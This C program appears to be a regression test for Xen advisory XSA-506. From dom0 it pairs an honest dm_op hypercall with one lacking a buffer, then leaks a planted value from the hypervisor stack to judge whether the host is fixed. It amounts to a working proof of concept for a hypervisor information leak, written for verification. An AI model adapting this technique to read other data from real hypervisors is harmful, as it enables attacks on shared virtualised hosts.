// SPDX-License-Identifier: GPL-2.0-only
/*
 * Shows whether the hypervisor is vulnerable to XSA-506 (CVE-2026-62433): does it execute a
 * device-model operation although the caller passed fewer buffers than that operation needs?
 *
 * It creates an HVM domain without memory or toolstack, turns dirty logging on for it, and issues
 * dm_op in pairs: an honest call, which leaves its buffer list behind on the hypervisor's stack,
 * then the same call with a buffer missing. A vulnerable hypervisor serves the second call from
 * what the first left behind. Each pair is one multicall, so that nothing runs in between.
 *
 * Runs in dom0, as root, with /dev/xen/privcmd. Needs Xen's public headers to compile (libxen-dev).
 * The argument is the state in which it runs: the hypervisor should be fixed when "applied" (and
 * without an argument), vulnerable otherwise. Prints the verdict, then what each check saw. Exit
 * status: 0 as expected, 1 not as expected, 2 cannot tell.
 */
#define _GNU_SOURCE
#define __XEN_TOOLS__ 1
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <unistd.h>

#include <xen/domctl.h>
#include <xen/hvm/dm_op.h>
#include <xen/xen.h>

#include <xen/sys/privcmd.h>

enum { fixed = 0, vulnerable = 1, cannot_tell = 2 };
/* An interrupt between the two calls of a pair changes what the stack holds: look again. */
enum { looks = 8 };

/* All that the hypervisor reads or writes, in one locked page: dom0 must not move it meanwhile. */
struct shared {
    struct xen_domctl domctl;
    struct multicall_entry calls[2];
    struct xen_dm_op_buf bufs[2], bufs_lacking[1];
    struct xen_dm_op honest, lacking;
    struct xen_dm_op_modified_memory_extent extent;
};

static int privcmd = -1;
static struct shared* s;

static long hypercall(uint64_t op, uint64_t a, uint64_t b, uint64_t c) {
    struct privcmd_hypercall call = {.op = op, .arg = {a, b, c}};
    long rc = ioctl(privcmd, IOCTL_PRIVCMD_HYPERCALL, &call);

    return rc < 0 ? -(long)errno : rc;
}

/* What the checks saw, a line each; printed below the verdict. */
static char seen[512];

static void saw(const char* format, ...) {
    size_t length = strlen(seen);
    va_list args;

    va_start(args, format);
    vsnprintf(seen + length, sizeof(seen) - length, format, args);
    va_end(args);
}

static const char* word(long rc) {
    return rc < 0 ? strerrorname_np((int)-rc) : "done";
}

static long domctl(uint32_t cmd, domid_t dom) {
    s->domctl.cmd = cmd;
    s->domctl.interface_version = XEN_DOMCTL_INTERFACE_VERSION;
    s->domctl.domain = dom;
    return hypercall(__HYPERVISOR_domctl, (uintptr_t)&s->domctl, 0, 0);
}

/*
 * dm_op(s->honest) with all its `nr_bufs` buffers, and at once dm_op with one fewer. The buffer
 * list of the second names s->lacking. Returns the second's result, the first's in *honest.
 */
static long one_fewer(domid_t dom, unsigned int nr_bufs, long* honest) {
    for (unsigned int i = 0; i < 2; i++) {
        s->calls[i].op = __HYPERVISOR_dm_op;
        s->calls[i].args[0] = dom;
        s->calls[i].args[1] = nr_bufs - i;
        s->calls[i].args[2] = (uintptr_t)(i ? s->bufs_lacking : s->bufs);
        s->calls[i].result = -EIO;
    }
    hypercall(__HYPERVISOR_multicall, (uintptr_t)s->calls, 2, 0);
    *honest = (long)s->calls[0].result;
    return (long)s->calls[1].result;
}

static void name_buffer(struct xen_dm_op_buf* buf, void* memory, uint64_t size) {
    set_xen_guest_handle(buf->h, memory);
    buf->size = size;
}

/* One vCPU, dirty logging on, never run. Returns the domain's id, or a negative errno. */
static long make_domain(const char** step) {
    long rc;
    domid_t dom;

    memset(s, 0, sizeof(*s));
    *step = "create an HVM domain";
    s->domctl.u.createdomain.flags = XEN_DOMCTL_CDF_hvm;
    s->domctl.u.createdomain.max_vcpus = 1;
    s->domctl.u.createdomain.max_evtchn_port = 15;
    s->domctl.u.createdomain.max_grant_frames = -1;
    s->domctl.u.createdomain.max_maptrack_frames = -1;
    s->domctl.u.createdomain.grant_opts = XEN_DOMCTL_GRANT_version(1);
    s->domctl.u.createdomain.arch.emulation_flags = XEN_X86_EMU_LAPIC;
    rc = domctl(XEN_DOMCTL_createdomain, 0);
    if (rc < 0)
        return rc;
    dom = s->domctl.domain;

    *step = "give it a vCPU";
    memset(&s->domctl.u, 0, sizeof(s->domctl.u));
    s->domctl.u.max_vcpus.max = 1;
    rc = domctl(XEN_DOMCTL_max_vcpus, dom);
    if (rc >= 0) {
        *step = "log its dirty pages";
        memset(&s->domctl.u, 0, sizeof(s->domctl.u));
        s->domctl.u.shadow_op.op = XEN_DOMCTL_SHADOW_OP_ENABLE_LOGDIRTY;
        rc = domctl(XEN_DOMCTL_shadow_op, dom);
    }
    if (rc < 0) {
        domctl(XEN_DOMCTL_destroydomain, dom);
        return rc;
    }
    return dom;
}

/* Asks how many vCPUs there are, then asks again without a buffer to put the answer into. */
static int no_buffer(domid_t dom) {
    long honest = 0, rc = -EFAULT;

    name_buffer(&s->bufs[0], &s->honest, sizeof(s->honest));
    for (int i = 0; i < looks && !honest && rc != 0 && rc != -ENODATA; i++) {
        s->honest = (struct xen_dm_op){.op = XEN_DMOP_nr_vcpus};
        rc = one_fewer(dom, 1, &honest);
    }
    if (honest) {
        saw("no buffer at all: cannot tell, the honest call failed: %s\n", word(honest));
        return cannot_tell;
    }
    if (rc == -ENODATA) {
        saw("no buffer at all: refused (%s)\n", word(rc));
        return fixed;
    }
    if (rc == 0)
        saw("no buffer at all: executed with the previous call's buffer\n");
    else
        saw("no buffer at all: %s, after reading a buffer that was never passed\n", word(rc));
    return vulnerable;
}

/*
 * Marks `extents` extents in a second buffer that is not there. EINVAL: refused, they would not fit
 * into it. EFAULT: they would, but it cannot be read. The honest call before has nothing to do; its
 * only purpose is the size of a second buffer, enough for `left_behind` extents.
 */
static long one_of_two(domid_t dom, uint32_t extents, uint32_t left_behind, long* honest) {
    name_buffer(&s->bufs[0], &s->honest, sizeof(s->honest));
    name_buffer(&s->bufs[1], &s->extent, (uint64_t)left_behind * sizeof(s->extent));
    name_buffer(&s->bufs_lacking[0], &s->lacking, sizeof(s->lacking));
    s->honest = (struct xen_dm_op){.op = XEN_DMOP_modified_memory};
    s->lacking = s->honest;
    s->lacking.u.modified_memory.nr_extents = extents;
    return one_fewer(dom, 2, honest);
}

/*
 * The largest number of extents that seems to fit into the missing buffer, by halving. Learnt from
 * nothing but the two errors; another result ends the search, in *rc or *honest.
 */
static uint32_t search(domid_t dom, uint32_t left_behind, long* rc, long* honest) {
    uint32_t fits = 0, too_many = UINT32_MAX;

    while (too_many - fits > 1) {
        uint32_t middle = fits + (too_many - fits) / 2;

        *rc = one_of_two(dom, middle, left_behind, honest);
        if (*honest || (*rc != -EFAULT && *rc != -EINVAL))
            break;
        if (*rc == -EFAULT)
            fits = middle;
        else
            too_many = middle;
    }
    return fits;
}

/* Reads back, through the missing buffer, a number that the honest call left on the stack. */
static int leak(domid_t dom) {
    const uint32_t secret = 0x5ec2e7;
    uint32_t found = 0;
    long honest = 0, rc = 0;

    for (int i = 0; i < looks && found != secret; i++) {
        found = search(dom, secret, &rc, &honest);
        if (honest || (rc != -EFAULT && rc != -EINVAL)) {
            saw("one buffer of two: cannot tell: %s, %s\n", word(honest), word(rc));
            return cannot_tell;
        }
        if (found == 0) {
            saw("one buffer of two: always refused (%s)\n", word(rc));
            return fixed;
        }
    }
    saw("one buffer of two: leaked 0x%" PRIx32 " from the hypervisor's stack%s\n", found,
        found == secret ? ", left there by the previous call" : "");
    return vulnerable;
}

int main(int argc, char** argv) {
    const int wanted = argc < 2 || !strcmp(argv[1], "applied") ? fixed : vulnerable;
    const char* step = "";
    int first, second, verdict;
    long dom;

    setvbuf(stdout, NULL, _IOLBF, 0);
    privcmd = open("/dev/xen/privcmd", O_RDWR | O_CLOEXEC);
    if (privcmd < 0) {
        printf("XSA-506: cannot tell: /dev/xen/privcmd: %s\n", strerror(errno));
        return cannot_tell;
    }
    s = mmap(NULL, sizeof(*s), PROT_READ | PROT_WRITE,
             MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED | MAP_POPULATE, -1, 0);
    if (s == MAP_FAILED) {
        printf("XSA-506: cannot tell: locked memory: %s\n", strerror(errno));
        return cannot_tell;
    }
    dom = make_domain(&step);
    if (dom < 0) {
        printf("XSA-506: cannot tell: %s: %s\n", step, word(dom));
        return cannot_tell;
    }
    first = no_buffer((domid_t)dom);
    second = leak((domid_t)dom);
    domctl(XEN_DOMCTL_destroydomain, (domid_t)dom);

    verdict = first == vulnerable || second == vulnerable ? vulnerable
              : first == fixed && second == fixed         ? fixed
                                                          : cannot_tell;
    printf("XSA-506: %s\n%s",
           verdict == fixed        ? "fixed"
           : verdict == vulnerable ? "vulnerable"
                                   : "cannot tell",
           seen);
    return verdict == cannot_tell ? cannot_tell : verdict != wanted;
}
